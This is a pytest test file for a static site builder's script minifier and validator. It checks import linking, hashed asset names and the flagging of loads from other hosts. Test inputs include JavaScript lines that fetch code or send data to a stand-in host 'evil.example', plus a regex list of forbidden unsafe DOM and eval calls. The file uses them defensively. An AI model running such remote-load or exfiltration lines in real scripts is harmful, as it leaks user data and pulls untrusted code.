from __future__ import annotations

import re

import pytest

from site_builder.names import SourcePath
from site_builder.plan.scripts import Scripts, smaller
from tests.support.made_up import ROOT
from tests.unit.plan.plans import material_of
from tests.unit.validate.files import told

MAIN = SourcePath("assets/js/main.js")
SCRIPTS = {path.name: path.read_text(encoding="utf-8") for path in sorted((ROOT / "assets/js").glob("*.js"))}


def scripts_of(**texts: str) -> Scripts:
    files = {SourcePath(f"assets/js/{name}.js"): text for name, text in texts.items()}
    scripts = Scripts(files, material_of([]).routes)
    for path in files:
        scripts.task(path)
    return scripts


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("// says\nconst a = 1; // one\n", "const a=1;"),
        ("/** Says. */\nreturn  b", "return b"),
        ("a + +b - -c", "a+ +b- -c"),
        ("say(\"a  // b\", `  ${ c } `, '/* d */');", "say(\"a  // b\",`  ${ c } `,'/* d */');"),
        (r"x.split(/\s+ \/[/ ]/u).map(y => y / 2);", r"x.split(/\s+ \/[/ ]/u).map(y=>y/2);"),
        ('const x = y / 2 + "a/b c // d";', 'const x=y/2+"a/b c // d";'),
        ("f(a) / g(b); x = c[0] / d / 2;", "f(a)/g(b);x=c[0]/d/2;"),
        ("return /a  b/.test(c);", "return/a  b/.test(c);"),
        ("x => /a  b/.test(x)", "x=>/a  b/.test(x)"),
        ("a.return / 2 / b;", "a.return/2/b;"),
        (r"[/\//, !/ '/, a ? / \" / : / ` /];", r"[/\//,!/ '/,a?/ \" /:/ ` /];"),
        ("for (const a of b) {\n  c();\n}\n", "for(const a of b){c();}"),
    ],
)
def test_blanks_and_comments_go_and_texts_stay(text: str, expected: str) -> None:
    assert smaller(text) == expected


def test_a_script_imports_others_under_their_hashed_names() -> None:
    scripts = scripts_of(main='import {a} from "./part.js";\na();', part="export const a = 1;")
    part = scripts.urls["js/part.js"]
    assert re.fullmatch(r"/assets/js/part\.[0-9a-f]{10}\.js", part)
    main = scripts.task(MAIN).text
    assert main == f'import{{a}}from"./{part.rpartition("/")[2]}";a();'


def test_a_script_that_is_loaded_later_is_linked_too_and_without_it_that_is_a_fault() -> None:
    scripts = scripts_of(main='go(() => import("./part.js"));', part="export const a = 1;")
    part = scripts.urls["js/part.js"].rpartition("/")[2]
    assert scripts.task(MAIN).text == f'go(()=>import("./{part}"));'
    assert scripts.problems == []
    (problem,) = told(scripts_of(main='go(() => import("./part.js"));').problems)
    assert problem.key == "asset-missing.import"


def test_a_change_of_what_is_imported_changes_the_name_of_what_imports_it() -> None:
    main = 'import {a} from "./part.js";'
    first, second = (scripts_of(main=main, part=f"export const a = {n};") for n in (1, 2))
    assert first.urls["js/main.js"] != second.urls["js/main.js"]


@pytest.mark.parametrize("text", ['const x = 1;\nimport "./none.js";', 'const x = 1;\nimport "./main.js";'])
def test_an_import_of_nothing_or_of_itself_is_a_fault(text: str) -> None:
    (problem,) = told(scripts_of(main=text).problems)
    assert (problem.key, problem.at.path, problem.at.line) == ("asset-missing.import", "assets/js/main.js", 2)


@pytest.mark.parametrize(
    "text",
    [
        'import {a} from "./part.js"; // what it is for\na();',
        'import {a} from "./part.js"; /* what\nit is for */\na();',
        'import {\n  a,\n} from "./part.js";\na();',
        'export {a} from "./part.js";',
        'import {a} from /* here */ "./part.js";',
    ],
)
def test_an_import_is_linked_whatever_stands_behind_it(text: str) -> None:
    scripts = scripts_of(main=text, part="export const a = 1;")
    assert scripts.problems == []
    assert f'"./{scripts.urls["js/part.js"].rpartition("/")[2]}"' in scripts.task(MAIN).text


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ('a();\n  import {b} from "./part.js";', "./part.js"),
        ('a();\nimport {b} from "../part.js";', "../part.js"),
        ('a();\nconst b = await import("./sub/part.js");', "./sub/part.js"),
        ('a();\nimport "./part.mjs";', "./part.mjs"),
        ("a();\nimport {b} from './sub/part.js';", "./sub/part.js"),
    ],
)
def test_an_import_that_would_be_dead_is_a_fault_at_its_line(text: str, target: str) -> None:
    (problem,) = told(scripts_of(main=text, part="export const b = 1;").problems)
    assert (problem.key, problem.at.line, problem.values) == ("asset-missing.import", 2, {"target": target})


def test_a_path_in_a_text_is_no_import() -> None:
    text = (
        'const a = "./part.js", b = Array.from("./x");\n// import "./none.js";\nsay("import \'./none.js\'");'
    )
    assert scripts_of(main=text).problems == []


@pytest.mark.parametrize(
    "text",
    [
        'import "https://evil.example/x.js";',
        'import {a} from "//evil.example/x.js";',
        'const a = await import("https://evil.example/x.js");',
        'export {a} from "https://evil.example/x.js";',
        'import "\\x68ttps://evil.example/x.js";',
        "await fetch(`https://evil.example/${a}`);",
        'new Worker("//evil.example/x.js");',
        'image.src = "https://evil.example/a.png";',
    ],
)
def test_a_script_loads_nothing_from_another_host(text: str) -> None:
    (problem,) = told(scripts_of(main=f"a();\n{text}").problems)
    assert (problem.key, problem.at.line) == ("other-host", 2)
    assert "evil.example" in problem.values["target"]


def test_a_script_may_make_links_to_other_hosts() -> None:
    assert scripts_of(main='a.href = "https://wa.me/1";\nsay("from", "//x");').problems == []


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_keeps_to_what_can_be_made_smaller(name: str) -> None:
    text = SCRIPTS[name]
    for template in re.findall(r"`(?:[^`\\]|\\.)*`", text):
        assert template.count("{") == template.count("}"), f"a template within a template: {template}"
    for line in text.splitlines():
        code = line.strip()
        assert code.startswith(("//", "/*", "*")) or not code or code[-1] in ";{}(,:[", line


def test_an_address_goes_into_a_link_for_mail_encoded() -> None:
    assert "`mailto:${encodeURIComponent(mail)" in SCRIPTS["buyers-list.js"]


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_never_reads_text_as_markup_or_code(name: str) -> None:
    """One reads a page of this host, which holds what the search is shown with; its scripts do not run."""
    text = SCRIPTS[name]
    if name == "search.js":
        assert text.count("fetch(") == text.count("fetch(page)") == 1
        text = text.replace("DOMParser", "", 1)
    forbidden = r"innerHTML|outerHTML|insertAdjacent|document\.write|DOMParser|\beval\b|new Function|\.srcdoc|https?://(?!wa\.me/)"
    assert not re.search(forbidden, text)
